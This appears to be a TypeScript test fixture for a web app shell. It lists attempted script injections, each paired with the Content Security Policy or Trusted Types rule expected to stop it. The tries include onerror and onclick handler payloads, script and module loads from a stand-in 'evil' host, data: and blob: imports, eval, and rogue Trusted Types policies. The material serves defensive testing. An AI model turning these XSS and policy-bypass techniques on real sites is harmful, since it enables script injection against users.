import type { HostileTry } from './hostile-try.ts';

/** Ways to run what is not in its release. */
export const scriptTries: readonly HostileTry[] = [
  {
    name: 'writes markup with a handler',
    outcome: 'blocked',
    why: 'Trusted Types: text never becomes markup',
    run() {
      document.createElement('div').innerHTML = '<img src=x onerror="window.ran = 1">';
      return true;
    },
  },
  {
    name: 'writes to the document',
    outcome: 'blocked',
    why: 'Trusted Types: text never becomes markup',
    run() {
      document.write('<p>written</p>');
      return true;
    },
  },
  {
    name: 'sets a handler as text',
    outcome: 'blocked',
    why: 'Trusted Types and the policy: text never becomes code',
    run() {
      document.createElement('button').setAttribute('onclick', 'window.ran = 1');
      return true;
    },
  },
  {
    name: 'runs a script of another site',
    outcome: 'blocked',
    why: 'Trusted Types: the one policy for addresses of scripts knows this site alone',
    run(evil) {
      const script = document.createElement('script');
      script.src = `${evil}/script.js`;
      document.head.append(script);
      return true;
    },
  },
  {
    name: 'makes a Trusted Types policy of its own',
    outcome: 'blocked',
    why: 'policy: `trusted-types`',
    run() {
      const names = ['mine', 'react-aria', 'dompurify', 'lit-html', 'webpack', 'goog#html'];
      return names.some((name) => {
        try {
          return Reflect.get(window, 'trustedTypes').createPolicy(name, { createHTML: String }) !== null;
        } catch {
          return false;
        }
      });
    },
  },
  {
    name: 'makes the page’s own Trusted Types policy once more',
    outcome: 'blocked',
    why: 'policy: `trusted-types` without duplicates; the shell’s is made by the first script of the document',
    run() {
      const own = { createHTML: String, createScript: String, createScriptURL: String };
      Reflect.get(window, 'trustedTypes').createPolicy('default', own);
      return true;
    },
  },
  {
    name: 'makes the Trusted Types policies that Google’s maps would make',
    outcome: 'out of reach',
    why: 'with Google’s maps, whoever is first has their names; the markup runs no script, because the policy allows none in it',
    async run() {
      const policy = (await fetch(location.href)).headers.get('content-security-policy') ?? '';
      const [, names = ''] = /trusted-types ([^;]*)/.exec(policy) ?? [];
      const made = names
        .split(' ')
        .filter((name) => name !== 'default')
        .map((name) => Reflect.get(window, 'trustedTypes').createPolicy(name, { createHTML: String }));
      const place = document.createElement('div');
      for (const each of made) place.innerHTML = each.createHTML('<img src=x onerror="window.ran = 1">');
      await new Promise((resolve) => setTimeout(resolve, 100));
      return place.firstElementChild !== null && !('ran' in window);
    },
  },
  {
    name: 'makes a Trusted Types policy in an empty frame',
    outcome: 'out of reach',
    why: 'an empty frame has the page’s names anew; the markup runs no script, because the policy allows none in it',
    async run() {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      const types: unknown = Reflect.get(frame.contentWindow ?? {}, 'trustedTypes');
      const policy = Reflect.get(Object(types), 'createPolicy').call(types, 'default', {
        createHTML: String,
      });
      const place = document.createElement('div');
      place.innerHTML = policy.createHTML('<img src=x onerror="window.ran = 1">');
      await new Promise((resolve) => setTimeout(resolve, 100));
      return place.firstElementChild !== null && !('ran' in window);
    },
    undo: () => document.querySelector('body > iframe')?.remove(),
  },
  {
    name: 'evaluates text',
    outcome: 'blocked',
    why: 'policy: no `unsafe-eval`',
    run: () => Reflect.construct(Function, ['return true'])(),
  },
  {
    name: 'imports a module of another site, or of its own text',
    outcome: 'blocked',
    why: 'policy: `script-src`',
    async run(evil) {
      const own = URL.createObjectURL(new Blob(['window.ran = 1'], { type: 'text/javascript' }));
      for (const address of [`${evil}/module.js`, 'data:text/javascript,window.ran=1', own])
        await import(address).catch(() => undefined);
      return 'ran' in window;
    },
  },
  {
    name: 'runs a worker from a `data:` address',
    outcome: 'blocked',
    why: 'Trusted Types and the policy: `worker-src`',
    run() {
      new Worker('data:text/javascript,postMessage(1)').terminate();
      return true;
    },
  },
  {
    name: 'registers a service worker',
    outcome: 'blocked',
    why: 'the gateway serves one, the shell’s own',
    async run() {
      const own = performance.getEntriesByType('resource').find(({ name }) => /\/entry\.\w+\.js$/.test(name));
      await navigator.serviceWorker.register(own?.name ?? '');
      return true;
    },
  },
];
